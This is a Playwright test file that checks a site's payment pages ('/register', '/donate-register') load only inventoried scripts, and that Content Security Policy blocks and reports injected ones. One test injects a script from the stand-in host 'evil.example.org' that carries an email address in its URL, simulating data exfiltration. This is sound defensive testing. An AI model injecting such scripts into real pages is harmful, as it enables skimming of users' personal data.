import { execFile } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, type Page } from '@playwright/test';
import { type PaymentScript, paymentScripts } from '@/content/payment-scripts';
import { makeCertificate } from '@/scripts/bench/load-nginx';
import { buildAppStart } from '@/scripts/build-enhance.mjs';
import { isListed, type PageScript } from '@/scripts/payment-scripts/listed';
import { newFolder } from '@/scripts/run/folder';
import { BROWSERS } from '@/scripts/run/packages';
import { openFaultProxy } from '@/tests/faults/support/proxy';
import * as donation from './support/donation';
import * as registration from './support/registration';
import { test } from './support/sites';

// Chromium normally batches reports for a minute; with this it sends them at once, over TLS only,
// here with a self-signed certificate.
const REPORTING = ['--short-reporting-delay', '--ignore-certificate-errors'];
test.use({
  ignoreHTTPSErrors: true,
  launchOptions: async ({ launchOptions }, use) =>
    use({
      ...launchOptions,
      // The headless shell sends no reports.
      ...(existsSync(BROWSERS.chromium) && { executablePath: BROWSERS.chromium }),
      args: [...(launchOptions.args ?? []), ...REPORTING],
    }),
});

function collectScripts(page: Page) {
  const addresses = new Set<string>();
  page.on('request', (request) => {
    if (request.resourceType() === 'script') addresses.add(request.url());
  });
  return async (): Promise<PageScript[]> => {
    const inline = await page.evaluate(() => {
      const types = ['', 'module', 'text/javascript'];
      return [...document.scripts]
        .filter(({ src, type }) => src === '' && types.includes(type))
        .map(({ text }) => text);
    });
    return [
      ...[...addresses].map((address) => ({ address })),
      ...inline.map((text) => ({ inline: text })),
    ];
  };
}

const journeys: Record<string, (page: Page) => Promise<void>> = {
  '/register': async (page) => {
    await registration.registerPaid(page);
  },
  '/donate-register': async (page) => {
    await donation.reachReview(page);
    await donation.openCheckout(page);
    await donation.payInCheckout(page);
    await expect(donation.success(page)).toBeVisible();
  },
};

for (const [path, walk] of Object.entries(journeys)) {
  test(`${path} loads the scripts of the inventory and nothing else`, async ({ page }) => {
    const scripts = collectScripts(page);
    await walk(page);
    const known = { site: new URL(page.url()).origin, bundle: await buildAppStart() };
    const found = await scripts();
    expect(found.filter((one) => !isListed(one, known))).toEqual([]);
    // The inventory must not list what no page loads; the provider's hosts are not reached here.
    const texts = found.map((one) =>
      'inline' in one ? one.inline : new URL(one.address).pathname,
    );
    for (const listed of paymentScripts) {
      if ('host' in listed) continue;
      const start = startOf(listed, known.bundle);
      expect(texts.some((text) => text.startsWith(start.split('*', 1)[0] ?? ''))).toBe(true);
    }
  });
}

function startOf(listed: Exclude<PaymentScript, { host: string }>, bundle: string): string {
  if ('bundle' in listed) return bundle;
  if ('path' in listed) return listed.path;
  return 'inline' in listed ? listed.inline : listed.starter;
}

const run = (...args: string[]) =>
  promisify(execFile)('node_modules/.bin/tsx', ['scripts/check-payment-scripts.ts', ...args]);

test('the command that compares a deployed site with the inventory finds nothing here', async ({
  baseURL,
}) => {
  const { stdout } = await run(baseURL ?? '');
  expect(stdout).toBe(
    '/register and /donate-register load what the inventory names, and nothing else.\n',
  );
  await expect(run('no-address')).rejects.toMatchObject({ code: 1 });
});

test('a script injected into a payment page is blocked and reported', async ({ page, fake }) => {
  const folder = newFolder('tls');
  makeCertificate(folder);
  const read = (name: string) => readFileSync(join(folder, name));
  // Browsers send reports over TLS only.
  const own = { key: read('privkey.pem'), cert: read('fullchain.pem') };
  const tls = await openFaultProxy(fake.url, own);
  await page.goto(`${tls.url}/donate-register`);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example.org/a.js?email=parent@example.org';
    document.head.append(script);
  });
  const list = async () => (await page.request.get(`${fake.url}/api/csp-reports`)).json();
  const reported = {
    page: '/donate-register',
    directive: 'script-src-elem',
    blocked: 'https://evil.example.org/a.js',
  };
  await expect.poll(list).toContainEqual(expect.objectContaining(reported));
  const metrics = await (await page.request.get(`${fake.url}/api/metrics`)).text();
  expect(metrics).toMatch(
    /site_csp_reports_total\{page="\/donate-register",directive="script-src-elem"\} [1-9]/,
  );
  await tls.close();
});
